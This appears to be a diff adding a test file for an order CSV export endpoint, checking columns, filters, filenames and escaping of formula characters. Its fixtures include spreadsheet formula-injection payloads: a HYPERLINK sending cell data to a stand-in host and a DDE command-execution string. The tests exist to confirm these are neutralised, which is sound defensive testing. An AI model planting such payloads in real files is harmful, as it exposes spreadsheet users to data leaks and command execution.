@@ -1,0 +1,171 @@
+import { parse } from 'csv-parse/sync';
+import { eq } from 'drizzle-orm';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { orders } from '../../db/schema.js';
+import { manualClock, startTestApp, type TestApp, type TestClient } from '../../test/app.js';
+import { signedInAdmin } from '../../test/auth-flow.js';
+import { createOrder } from '../orders/create.js';
+import { dollarsFromCents, EXPORT_COLUMNS, escapeFormula } from './export.js';
+
+let t: TestApp;
+let admin: TestClient;
+
+const HOSTILE_NAMES = [
+  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
+  '@SUM(1)',
+  '-1+1',
+  '\t=1',
+  '+1',
+  '\r=2',
+];
+const TRIGGER = /^[=+\-@\t\r]/;
+
+let studioId: number;
+
+beforeAll(async () => {
+  t = await startTestApp({ clock: manualClock(new Date('2026-11-23T22:30:00Z')) });
+  admin = (await signedInAdmin(t)).client;
+  const db = t.database.db;
+  const { order } = await createOrder(db, {
+    orderId: 'VH1001',
+    productName: 'Studio 240, "deluxe"',
+    quantity: 2,
+    email: 'ann@example.com',
+    orderDate: new Date('2026-01-05T23:30:00Z'),
+    status: 'PRODUCTION',
+    paymentMethod: 'card',
+    transactionId: 'txn_123',
+    amount: '4500050',
+    zipCode: '78701',
+    initiatedBy: 'system',
+  });
+  studioId = order.id;
+  await db
+    .update(orders)
+    .set({ deliveryDate: new Date('2026-06-30T15:00:00Z') })
+    .where(eq(orders.id, order.id));
+  for (const [index, productName] of HOSTILE_NAMES.entries()) {
+    await createOrder(db, {
+      orderId: index === 0 ? '=cmd|"/c calc"!A1' : `VH20${index}`,
+      productName,
+      orderDate: new Date(`2026-02-0${index + 1}T12:00:00Z`),
+      zipCode: index === 2 ? '-78701' : null,
+      initiatedBy: 'system',
+    });
+  }
+});
+
+afterAll(async () => {
+  await t?.close();
+});
+
+/** The file as a spreadsheet would read it: the header row, then one array of cells per row. */
+function parseCsv(text: string): string[][] {
+  return parse(text, { bom: true, relax_column_count: false });
+}
+
+describe('exporting orders', () => {
+  it('streams the spec’s columns for every order of the filter, named for today', async () => {
+    const res = await admin.get('/api/admin/orders/export');
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(res.headers.get('content-disposition')).toContain('filename="orders-export-2026-11-23.csv"');
+    const [header, ...rows] = parseCsv(res.body);
+    expect(header).toEqual([...EXPORT_COLUMNS]);
+    expect(rows).toHaveLength(1 + HOSTILE_NAMES.length);
+    expect(rows[0]).toEqual([
+      'VH1001',
+      'Studio 240, "deluxe"',
+      '2',
+      '2026-01-05',
+      'PRODUCTION',
+      'card',
+      'txn_123',
+      '45000.50',
+      '2026-06-30',
+      '78701',
+    ]);
+  });
+
+  it('leaves no cell starting with a formula character, keeping the text after an apostrophe', async () => {
+    const res = await admin.get('/api/admin/orders/export');
+    const rows = parseCsv(res.body).slice(1);
+    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(TRIGGER);
+    const products = rows.map((row) => row[1]);
+    for (const name of HOSTILE_NAMES) expect(products).toContain(`'${name}`);
+    expect(rows.map((row) => row[0])).toContain(`'=cmd|"/c calc"!A1`);
+    expect(rows.map((row) => row[9])).toContain(`'-78701`);
+  });
+
+  it('exports only the orders the filter matches', async () => {
+    const res = await admin.get(
+      '/api/admin/orders/export?status=PRODUCTION&q=studio&page=3&sort=orderId:asc',
+    );
+    const rows = parseCsv(res.body).slice(1);
+    expect(rows.map((row) => row[0])).toEqual(['VH1001']);
+  });
+
+  it('answers 404 ‘No orders to export’ when the filter matches nothing', async () => {
+    const res = await admin.get('/api/admin/orders/export?status=DELIVERED');
+    expect(res.status).toBe(404);
+    expect(res.body).toEqual({ message: 'No orders to export' });
+  });
+
+  it('refuses a bad filter with 400 naming it', async () => {
+    const res = await admin.get('/api/admin/orders/export?payment=maybe');
+    expect(res.status).toBe(400);
+    expect(Object.keys(res.body.fields)).toEqual(['payment']);
+  });
+
+  it('exports one order as order-{orderId}.csv with the same columns', async () => {
+    const res = await admin.get(`/api/admin/orders/${studioId}/export`);
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(res.headers.get('content-disposition')).toContain('filename="order-VH1001.csv"');
+    const [header, ...rows] = parseCsv(res.body);
+    expect(header).toEqual([...EXPORT_COLUMNS]);
+    expect(rows).toHaveLength(1);
+    expect(rows[0]?.[7]).toBe('45000.50');
+  });
+
+  it('names a single export safely even when the order id holds quotes and slashes', async () => {
+    const [hostile] = await t.database.db
+      .select({ id: orders.id })
+      .from(orders)
+      .where(eq(orders.orderId, '=cmd|"/c calc"!A1'));
+    const res = await admin.get(`/api/admin/orders/${hostile?.id}/export`);
+    expect(res.status).toBe(200);
+    const disposition = res.headers.get('content-disposition') ?? '';
+    expect(disposition).toMatch(/^attachment; filename="order-[\w.-]+\.csv"; filename\*=UTF-8''/);
+    expect(decodeURIComponent(disposition.split("UTF-8''")[1] ?? '')).toBe('order-=cmd|"/c calc"!A1.csv');
+    const cells = parseCsv(res.body)[1] ?? [];
+    for (const cell of cells) expect(cell).not.toMatch(TRIGGER);
+  });
+
+  it('answers 404 for a single export of an order that does not exist', async () => {
+    expect((await admin.get('/api/admin/orders/999999/export')).status).toBe(404);
+  });
+});
+
+describe('escaping formula cells', () => {
+  it.each([
+    ['=1+1', "'=1+1"],
+    ['+1', "'+1"],
+    ['-1', "'-1"],
+    ['@SUM(1)', "'@SUM(1)"],
+    ['\t=1', "'\t=1"],
+    ['\r=1', "'\r=1"],
+    ['Cabin = 400', 'Cabin = 400'],
+    ['', ''],
+    ["'quoted", "'quoted"],
+  ])('turns %j into %j', (input, output) => {
+    expect(escapeFormula(input)).toBe(output);
+  });
+
+  it('writes cents as plain dollars and keeps a value that is not a number', () => {
+    expect(dollarsFromCents('4500000')).toBe('45000.00');
+    expect(dollarsFromCents('5')).toBe('0.05');
+    expect(dollarsFromCents(null)).toBe('');
+    expect(dollarsFromCents('n/a')).toBe('n/a');
+  });
+});
